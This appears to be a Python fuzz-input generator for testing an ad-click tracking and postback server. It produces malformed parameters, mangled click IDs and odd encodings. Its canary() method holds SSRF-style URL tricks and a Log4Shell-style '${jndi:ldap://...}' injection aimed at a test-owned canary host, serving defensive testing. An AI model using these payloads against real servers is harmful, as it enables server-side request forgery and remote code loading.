"""What hostile requests are made of: values that once broke something somewhere, and odd ways to write them."""

from __future__ import annotations

import random
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from urllib.parse import quote_from_bytes

from tests.web.test_visit import NAUGHTY

NETWORKS = ("maxi", "open", "strict", "listed", "signed")
CAMPAIGN_OF = {**{network: network for network in NETWORKS}, "maxi": "summer"}  # whose clicks go to that network
LANDED = ("quiz", "stepped")  # campaigns whose clicks stay on a landing page
VISITED = (*NETWORKS, *LANDED)  # by these a run knows clicks
CAMPAIGNS = (*CAMPAIGN_OF.values(), *LANDED, "rules", "picky", "bots", "capped", "paused", "halted")
TOKENS = {"maxi": "fuzz-token-of-maxi", "signed": "fuzz-token-of-signed"}
SECRETS = (*TOKENS.values(), "fuzz-hmac-secret", "fuzz-relay-secret", "fuzz-relay-key")

CLICK_NAMES = [*("ext", "cost", *(f"sub{n}" for n in range(1, 21)), "fbclid", "gclid", "epik", "ScCid"), "EXT", "Sub1"]
POSTBACK_NAMES = [
    *("click_id", "clickid", "cid", "subid", "s2", "aff_sub", "payout", "revenue", "amount", "sum", "sale_amount"),
    *("txn_id", "txid", "order_id", "event", "goal", "type", "status", "currency", "cur", "token", "ts", "time"),
    *("aff_sub5", "geo", "custom1", "TXN_ID", " payout ", "amp;payout"),
]
ODD_NAMES = ["", "a[b]", "a[]", "__proto__", "\x00", "é", "💥", "a" * 300, "=", "tallyback_test", "click", "offer", "%"]
STATUSES = ["approved", "rejected", "chargeback", "refunded", "pending", "1", "3", "ok", "sale", "APPROVED ", "hold"]
MONEY = [
    *("1.5", "12,50", "1,234", "1.234,50", "1 234,56", "1'234.50", "$12.50", "12.50 €", "USD12", "-5", "+3", "0", "-0"),
    *(
        "99999999999999999999",
        "999999999999",
        "0.0000005",
        "1e5",
        "1e999",
        "Infinity",
        "NaN",
        "１２",
        "1_0",
        "0x10",
        ".",
    ),
    *("9" * 5000, "1" * 400 + ".5", "12.50 USD EUR", "12.50 XXX", "--5", "5-", "%31", "%2531", "9223372036854775808"),
]
TIMES = [
    "1760000000",
    "1760000000000",
    "2026-13-45",
    "2026-03-01T12:00:00Z",
    "2026-03-29 02:30:00",
    "0",
    "-1",
    "9" * 20,
]
CURRENCIES = ["USD", "EUR", "eur", "RUR", "USDT", "XXX", "US", "U$D", "€"]
MACROS = [
    *("{click_id}", "{{x}}", "${SUBID}", "[x]", "[[[x]]]", "[=x=]", "#x#", "##x##", "%x%", "%%x%%", "!x!", "!!!x!!!"),
    *("<x>", "__X__", "xxXxx", "CLICK_ID", "YOUR_AID", "PUT_HERE", "%7Bx%7D", "{}", "{", "{payout:EUR}", "{sub1|raw}"),
]
_ENDS = bytes(range(0x21)) + b"#&"  # where the parser sees the end of a target
NOTHINGS = ["", "null", "undefined", "nil", "None", "0", "false", " ", '""', "/"]


@dataclass(frozen=True)
class Known:
    """What a run knows of the server that it asks: clicks, by each of VISITED, and the canary's place."""

    clicks: dict[str, Sequence[str]]
    canary: str


class Words:
    def __init__(self, chance: random.Random, known: Known) -> None:
        self.chance = chance
        self.known = known

    def is_so(self, share: float) -> bool:
        return self.chance.random() < share

    def value(self) -> str:
        """Any value that may stand anywhere."""
        pick = self.chance.choice
        kind = self.chance.randrange(12)
        if kind < 4:
            return pick(NAUGHTY)
        if kind < 7:
            return pick(pick((MONEY, TIMES, CURRENCIES, STATUSES, MACROS, NOTHINGS)))
        if kind == 7:
            return self.click_id(pick(NETWORKS))
        if kind == 8:
            return self.canary()
        if kind == 9:
            return pick(list(TOKENS.values()))
        if kind == 10:
            return pick("ax0é💥 \u202e") * pick((1, 30, 255, 256, 2047, 2049, 5000))
        return "".join(map(chr, self.chance.choices(range(0xD7FF), k=self.chance.randrange(12))))

    def click_id(self, where: str) -> str:
        """Mostly one that is right; sometimes as careless hands leave it."""
        right = self.chance.choice(self.known.clicks[where])
        if self.is_so(0.75):
            return right
        return self.chance.choice(
            (
                right.upper(),
                right[: self.chance.randrange(24)],
                right[:-1] + self.chance.choice("0z9"),
                f' "{right}" ',
                right + right,
                right[::-1],
                "0" * 23,
                f"{right}/",
                f"x{right}",
                "z" * 23,
                right.translate({ord("0"): "o", ord("1"): "l"}),
            )
        )

    def canary(self) -> str:
        """An address of ours that nobody may call."""
        place = self.known.canary
        return self.chance.choice(
            (
                f"http://{place}/",
                f"//{place}/x",
                place,
                f"https://go.example.net@{place}/",
                f"http://{place}\\@go.example.net/",
                f'{{"url": "http://{place}/"}}',
                f"<img src=http://{place}/>",
                f"@{place}",
                f"${{jndi:ldap://{place}/a}}",
            )
        )

    def token(self, network: str) -> str:
        right = TOKENS.get(network, "")
        return right if self.is_so(0.85) else self.chance.choice((self.value(), right[:-1], right.upper(), "", "é"))

    def written(self, value: str) -> bytes:
        """For a query or a form, as well-meaning and as careless programs write it."""
        raw = value.encode("utf-8", "surrogatepass")
        kind = self.chance.randrange(20)
        if kind < 13:
            return quote_from_bytes(raw, safe="").encode()
        if kind == 13:
            return quote_from_bytes(raw, safe="").lower().encode()
        if kind == 14:
            return quote_from_bytes(quote_from_bytes(raw, safe="").encode(), safe="").encode()
        if kind == 15:
            return quote_from_bytes(value.encode("utf-16", "surrogatepass"), safe="").encode()
        if kind == 16:
            return quote_from_bytes(value.encode("latin-1", "replace"), safe="").encode()
        if kind == 17:
            return b"".join(b"%%%02x" % byte for byte in raw[:400])
        if kind == 18:
            return raw.translate(None, _ENDS) + self.chance.choice(
                (b"%", b"%z", b"%0", b"%c0%80", b"%ed%a0%80", b"\xff")
            )
        return raw.translate(None, _ENDS if self.is_so(0.9) else b"\r\n")

    def pairs(self, names: Sequence[str], most: int) -> list[tuple[str, bytes]]:
        """Parameters of which some are known; the count is small more often than not."""
        count = min(most, self.chance.choice((0, 1, 2, 3, 5, 8, 40)))
        pick = self.chance.choice
        return [(pick(names if self.is_so(0.85) else ODD_NAMES), self.written(self.value())) for _ in range(count)]

    def joined(self, pairs: Sequence[tuple[str, bytes]]) -> bytes:
        sign = self.chance.choice((b"&",) * 12 + (b";", b"&amp;", b"?", b"&&"))
        ready = []
        for name, value in pairs:
            is_odd = not name.isascii() or not name.replace("_", "").isalnum()
            ready.append((quote_from_bytes(name.encode(), safe="[]") if is_odd else name).encode() + b"=" + value)
        return sign.join(ready)

    def postback(self, network: str) -> list[tuple[str, bytes]]:
        """What the network would send, with some of it gone wrong."""
        pick, is_so = self.chance.choice, self.is_so
        meant = {"click_id": self.click_id(network if is_so(0.95) else pick(NETWORKS))}
        parts: tuple[tuple[float, str, Callable[[], str]], ...] = (
            (0.7, "payout", lambda: pick(MONEY) if is_so(0.3) else f"{self.chance.randrange(10_000) / 100}"),
            (0.6, "txn_id", lambda: pick(("rev-", "", "")) + f"t{self.chance.randrange(300)}"),
            (0.4, "status", lambda: pick(STATUSES)),
            (0.3, "event", lambda: pick(("deposit", "share", "lead", "DEPOSIT", ""))),
            (0.3, "currency", lambda: pick(CURRENCIES)),
            (0.2, "ts", lambda: pick(TIMES)),
            (0.1, "time", lambda: pick(TIMES)),
            (0.2, "sale_amount", lambda: pick(MONEY)),
            (0.95 if network in TOKENS else 0, "token", lambda: self.token(network)),
        )
        meant.update({name: make() for share, name, make in parts if is_so(share)})
        meant.update({name: self.value() for name in meant if is_so(0.06)})
        pairs = [(name, self.written(value)) for name, value in meant.items()]
        if is_so(0.3):
            pairs += self.pairs(POSTBACK_NAMES, 8)
        if is_so(0.3):
            self.chance.shuffle(pairs)
        return pairs
